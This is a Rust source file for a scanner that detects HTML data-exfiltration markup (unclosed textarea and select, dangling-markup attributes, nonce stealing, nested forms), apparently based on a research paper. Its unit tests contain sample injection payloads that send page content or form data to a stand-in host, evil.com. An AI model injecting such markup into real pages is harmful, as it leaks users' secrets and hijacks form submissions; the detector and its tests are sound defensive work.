//! Data Exfiltration checks (DE1–DE4, §3.2).

use super::{Check, Interest};
use crate::context::CheckContext;
use crate::report::Finding;
use crate::taxonomy::ViolationKind;
use spec_html::tags;
use spec_html::tokenizer::Tag;
use spec_html::{Atom, TreeEvent, TreeEventKind};

const OPTION: Atom = Atom::known("option");
const SELECT: Atom = Atom::known("select");
const TARGET: Atom = Atom::known("target");
const TEXTAREA: Atom = Atom::known("textarea");

/// DE1 — Non-terminated `textarea`.
///
/// The spec defines `textarea` with mandatory start *and* end tags
/// (§4.10.11), yet the parsing process silently closes it at EOF
/// (§13.2.5.2). An injected `<form action=evil><input type=submit><textarea>`
/// therefore exfiltrates everything that follows (Figure 3).
///
/// Detection: a `textarea` element is still on the stack of open elements
/// when EOF arrives.
pub struct De1;

impl Check for De1 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::DE1
    }

    fn interest(&self) -> Interest {
        Interest::FINISH
    }

    fn finish(&mut self, cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
        if cx.parse.open_at_eof.contains(&TEXTAREA) {
            out.push(Finding::new(
                ViolationKind::DE1,
                cx.raw.chars().count(),
                "textarea still open at end of file",
            ));
        }
    }
}

/// DE2 — Non-terminated `select` / `option`.
///
/// Same mechanism as DE1 but via `select`: the parser strips inner tags and
/// keeps their text (§4.10.7), so an unclosed `<select><option>` leaks the
/// following content as plain text.
///
/// Detection: a `select` or `option` element is still open at EOF.
pub struct De2;

impl Check for De2 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::DE2
    }

    fn interest(&self) -> Interest {
        Interest::FINISH
    }

    fn finish(&mut self, cx: &CheckContext<'_>, out: &mut Vec<Finding>) {
        if cx.parse.open_at_eof.iter().any(|n| *n == SELECT || *n == OPTION) {
            out.push(Finding::new(
                ViolationKind::DE2,
                cx.raw.chars().count(),
                "select/option still open at end of file",
            ));
        }
    }
}

/// DE3_1 — Classic dangling markup: a URL-valued attribute whose *raw*
/// source text contains both a newline and `<` — the signature of a
/// non-terminated attribute that swallowed following markup, and exactly
/// what Chromium blocks since 2017.
pub struct De3_1;

impl Check for De3_1 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::DE3_1
    }

    fn interest(&self) -> Interest {
        Interest::START_TAGS
    }

    fn on_start_tag(&mut self, cx: &CheckContext<'_>, tag: &Tag, out: &mut Vec<Finding>) {
        for attr in cx.parse.dom.attrs(tag.attrs) {
            if tags::is_url_attribute(&attr.name)
                && attr.raw_value().contains('\n')
                && attr.raw_value().contains('<')
            {
                out.push(Finding::new(
                    ViolationKind::DE3_1,
                    tag.offset,
                    format!("<{} {}=…newline+'<'…>", tag.name, attr.name),
                ));
            }
        }
    }
}

/// DE3_2 — Nonce stealing: the string `<script` inside an attribute value
/// indicates a non-terminated attribute absorbed a following script element
/// (Figure 2); the CSP repository proposed exactly this string check.
pub struct De3_2;

impl Check for De3_2 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::DE3_2
    }

    fn interest(&self) -> Interest {
        Interest::START_TAGS
    }

    fn on_start_tag(&mut self, cx: &CheckContext<'_>, tag: &Tag, out: &mut Vec<Finding>) {
        for attr in cx.parse.dom.attrs(tag.attrs) {
            if super::contains_ascii_ci(&attr.value, "<script") {
                out.push(Finding::new(
                    ViolationKind::DE3_2,
                    tag.offset,
                    format!("<{} {}=…<script…>", tag.name, attr.name),
                ));
            }
        }
    }
}

/// DE3_3 — Unclosed `target` attribute: a raw newline inside a `target`
/// value signals a non-terminated attribute that swallowed markup; since
/// window names survive cross-origin navigation, the absorbed content leaks
/// (Figure 5).
pub struct De3_3;

impl Check for De3_3 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::DE3_3
    }

    fn interest(&self) -> Interest {
        Interest::START_TAGS
    }

    fn on_start_tag(&mut self, cx: &CheckContext<'_>, tag: &Tag, out: &mut Vec<Finding>) {
        for attr in cx.parse.dom.attrs(tag.attrs) {
            if attr.name == TARGET && attr.raw_value().contains('\n') {
                out.push(Finding::new(
                    ViolationKind::DE3_3,
                    tag.offset,
                    format!("<{} target=…newline…>", tag.name),
                ));
            }
        }
    }
}

/// DE4 — Nested `form`: the spec forbids form descendants of forms
/// (§4.10.3); the parser silently drops the inner start tag (§13.2.6.4.7),
/// so an injected form *before* the real one hijacks where the data is
/// submitted.
///
/// Detection: the tree builder's form-element-pointer suppression event.
pub struct De4;

impl Check for De4 {
    fn kind(&self) -> ViolationKind {
        ViolationKind::DE4
    }

    fn interest(&self) -> Interest {
        Interest::EVENTS
    }

    fn on_tree_event(&mut self, _cx: &CheckContext<'_>, ev: &TreeEvent, out: &mut Vec<Finding>) {
        if matches!(ev.kind, TreeEventKind::NestedFormIgnored) {
            out.push(Finding::new(
                ViolationKind::DE4,
                ev.offset,
                "nested <form> start tag ignored by parser",
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    /// Test-local one-shot over the new Battery API (the deprecated
    /// free-function shim delegates to exactly this).
    fn check_page(raw: &str) -> crate::report::PageReport {
        crate::Battery::full().run_str(raw)
    }
    use crate::taxonomy::ViolationKind::*;

    #[test]
    fn de1_figure3_payload() {
        let r = check_page(
            "<body><form action=\"https://evil.com\"><input type=\"submit\"><textarea>\n\
             <p>My little secret</p>\nmore content",
        );
        assert!(r.has(DE1));
    }

    #[test]
    fn de1_clean_textarea() {
        let r = check_page("<body><textarea>text</textarea><p>after</p></body>");
        assert!(!r.has(DE1));
    }

    #[test]
    fn de2_unterminated_select() {
        let r = check_page("<body><select><option>a\n<p>secret</p>");
        assert!(r.has(DE2));
    }

    #[test]
    fn de2_unterminated_option_alone() {
        let r = check_page("<body><select><option>a</select> ok <option>stray");
        assert!(r.has(DE2));
    }

    #[test]
    fn de2_clean_select() {
        let r = check_page(
            "<body><select><option>a</option><option>b</option></select><p>x</p></body>",
        );
        assert!(!r.has(DE2));
    }

    #[test]
    fn de3_1_dangling_markup_url() {
        let r = check_page("<body><img src='http://evil.com/?content=\n<p>secret</p>'></body>");
        assert!(r.has(DE3_1));
    }

    #[test]
    fn de3_1_requires_both_newline_and_lt() {
        let r = check_page("<body><a href=\"/a\n/b\">multi-line url</a></body>");
        assert!(!r.has(DE3_1));
        let r = check_page("<body><a href=\"/a<b\">lt only</a></body>");
        assert!(!r.has(DE3_1));
    }

    #[test]
    fn de3_1_ignores_non_url_attributes() {
        let r = check_page("<body><div title=\"a\n<b\">x</div></body>");
        assert!(!r.has(DE3_1));
    }

    #[test]
    fn de3_2_script_in_attribute() {
        // Figure 2: the non-terminated inj attribute absorbed a script tag.
        let r = check_page(
            "<body><script src=\"https://evil.com/x.js\" inj=\"\n\
             <p>The brown fox</p>\n<script id=\"in-action\" nonce=\"the-rnd-nonce\">\nx\n</body>",
        );
        assert!(r.has(DE3_2));
    }

    #[test]
    fn de3_2_case_insensitive() {
        let r = check_page("<body><input value=\"<SCRIPT src=x>\"></body>");
        assert!(r.has(DE3_2));
    }

    #[test]
    fn de3_2_benign_srcdoc_also_counts() {
        // The paper found the string mostly in srcdoc/value/data-* — still
        // counted by the check (that is the point of §4.5's analysis).
        let r = check_page(r#"<iframe srcdoc="<script>init()</script>"></iframe>"#);
        assert!(r.has(DE3_2));
    }

    #[test]
    fn de3_3_target_with_newline() {
        let r = check_page(
            "<body><a href=\"https://evil.com\">click</a><base target='\n<p>secret</p>' ></body>",
        );
        assert!(r.has(DE3_3));
    }

    #[test]
    fn de3_3_normal_target_ok() {
        let r = check_page("<body><a href=\"/x\" target=\"_blank\">l</a></body>");
        assert!(!r.has(DE3_3));
    }

    #[test]
    fn de4_nested_form() {
        let r = check_page(
            "<body><form action=\"https://evil.com\"><form action=\"/real\"><input name=q></form></body>",
        );
        assert!(r.has(DE4));
    }

    #[test]
    fn de4_figure13_copy_paste_forms() {
        // Figure 13 lines 1–3: two nearly identical forms pasted in a row,
        // the first never closed.
        let r = check_page(
            "<form method=\"get\" action=\"/search/\">\n\
             <form id=\"keywordsearch\" name=\"keywordsearch\" method=\"get\" action=\"/search\">\n\
             <input name=\"q\" type=\"text\"/ >",
        );
        assert!(r.has(DE4));
    }

    #[test]
    fn de4_sibling_forms_ok() {
        let r = check_page("<body><form action=/a></form><form action=/b></form></body>");
        assert!(!r.has(DE4));
    }
}
